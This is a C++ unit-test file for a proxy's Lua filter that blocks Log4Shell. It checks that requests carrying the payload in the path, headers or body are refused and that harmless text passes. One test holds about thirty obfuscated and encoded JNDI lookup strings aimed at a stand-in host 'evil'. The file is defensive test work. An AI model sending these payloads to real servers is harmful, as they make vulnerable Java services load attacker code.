// The recipe of docs/log4shell.md: the very document, checked as a node checks it, its script run as a worker
// runs it.
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>
#include <string>

#include "lua/script.h"
#include "policy/kinds/check.h"
#include "policy/kinds/lua_patch.h"

namespace sluice::lua {
namespace {

std::string recipe() {
  std::ifstream file(SLUICE_LOG4SHELL);
  std::stringstream text;
  text << file.rdbuf();
  policy::CheckOptions options;
  options.for_use = true;
  const auto checked = policy::check_text(text.str(), "log4shell.yaml", options);
  EXPECT_EQ(checked.diagnostics.text(), "");
  if (checked.resources.size() != 1) return {};
  const auto* list = checked.resources[0].spec().find_path({"default", "appendModifications"});
  const auto patch = policy::lua_patch(list->items.at(0));
  EXPECT_TRUE(patch) << patch.error();
  return patch ? patch->code : std::string();
}

class Log4Shell : public testing::Test {
 protected:
  Log4Shell() : script_(std::move(*Script::load("no-log4shell", recipe(), {}))) {}

  // The status that it answers; 0: the request passes.
  int with(std::string path, std::string name, std::string value, std::string_view body = {}) {
    Message message;
    message.fields = {{":method", "POST"}, {":path", std::move(path)}, {":authority", "shop"}};
    message.fields.push_back({std::move(name), std::move(value)});
    if (!body.empty()) message.body = body;
    const auto verdict = script_->on_request(message);
    if (verdict.kind == Verdict::Kind::go_on) return 0;
    EXPECT_EQ(verdict.kind, Verdict::Kind::respond) << verdict.problem;
    return verdict.status;
  }
  int in_path(const std::string& text) { return with("/search?q=" + text, "accept", "*/*"); }
  int in_header(const std::string& text) { return with("/", "user-agent", text); }
  int in_body(std::string_view text) { return with("/", "accept", "*/*", text); }

  std::unique_ptr<Script> script_;
};

TEST_F(Log4Shell, ExploitsAreRefusedWhereverTheyAre) {
  for (const std::string exploit : {"${jndi:ldap://evil/a}",
                                    "${JNDI:LDAP://evil/a}",
                                    "x ${jndi:rmi://evil/a} y",
                                    "${jndi:dns://evil",
                                    "${${lower:j}ndi:ldap://evil/a}",
                                    "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://evil/a}",
                                    "${j${lower:n}di:ldap://evil/a}",
                                    "${jn${::-d}i:ldap://evil/a}",
                                    "${jndi${nagli:-:}ldap://evil/a}",
                                    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil/a}",
                                    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}",
                                    "${${upper:j}ndi:ldap://evil/a}",
                                    "${${lower:${lower:jndi}}:ldap://evil/a}",
                                    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil/a}",
                                    "${$${::-j}ndi:ldap://evil/a}",
                                    "${jnd${upper:\xc4\xb1}:ldap://evil/a}",
                                    "%24%7Bjndi:ldap://evil/a%7D",
                                    "%24%7bjndi%3aldap://evil/a%7d",
                                    "%2524%257Bjndi%253Aldap://evil/a%257D",
                                    "%252524%25257Bjndi:ldap://evil/a",
                                    "$%7Bjndi:ldap://evil/a%7D",
                                    "%24{${lower:j}ndi:ldap://evil/a}",
                                    "%u0024%u007bjndi:ldap://evil/a}",
                                    "\\u0024{jndi:ldap://evil/a}",
                                    "\\u0024\\u007Bjndi:ldap://evil/a}",
                                    "\\x24{jndi:ldap://evil/a}",
                                    "&#36;{jndi:ldap://evil/a}",
                                    "&#x24;&#x7b;jndi:ldap://evil/a}",
                                    "&#036;{jndi:ldap://evil/a}"}) {
    EXPECT_EQ(in_path(exploit), 403) << exploit;
    EXPECT_EQ(in_header(exploit), 403) << exploit;
    EXPECT_EQ(in_body(exploit), 403) << exploit;
    EXPECT_EQ(in_body("{\"name\": \"a\", \"note\": \"" + exploit + "\"}"), 403) << exploit;
  }
}

TEST_F(Log4Shell, OtherRequestsPass) {
  for (const std::string text :
       {"", "hello", "jndi:ldap://docs.example/", "what is ${jndi} in Java?", "cost: $5 {a}", "100%",
        "%zz %4", "a=1&b=2&#c", "${name} and ${other:-x}", "${a.b.map(c => `${c}`)}", "C:\\users\\xavier",
        "\\u00e4\\u0024", "%E4%BD%A0%E5%A5%BD", "{\"template\": \"${HOME}/bin:${PATH}\"}",
        "\xe4\xbd\xa0\xe5\xa5\xbd $$ {{ }}"}) {
    EXPECT_EQ(in_path(text), 0) << text;
    EXPECT_EQ(in_header(text), 0) << text;
    EXPECT_EQ(in_body(text), 0) << text;
  }
  EXPECT_EQ(with("/", "content-encoding", "identity", "hello"), 0);
}

TEST_F(Log4Shell, ABodyThatItCannotReadIsRefused) {
  EXPECT_EQ(with("/", "content-encoding", "gzip", "\x1f\x8b"), 415);
}

// As long as a filter may see: of every kind, within the budget.
TEST_F(Log4Shell, LongBodiesAreJudgedWithinTheBudget) {
  for (const std::string piece :
       {"a", "%E4", "%25", "\\u0061", "&#97;", "${a}", "$", "${", "${jndi", "{\"a\":\"b\\n\"}, "}) {
    std::string body;
    while (body.size() + piece.size() <= 64 * 1024) body += piece;
    EXPECT_EQ(in_body(body), piece == "${" || piece == "${jndi" ? 403 : 0) << piece;
    body.resize(64 * 1024 - 6);
    EXPECT_EQ(in_body(body + "${jndi:"), 403) << piece;
  }
}

}  // namespace
}  // namespace sluice::lua
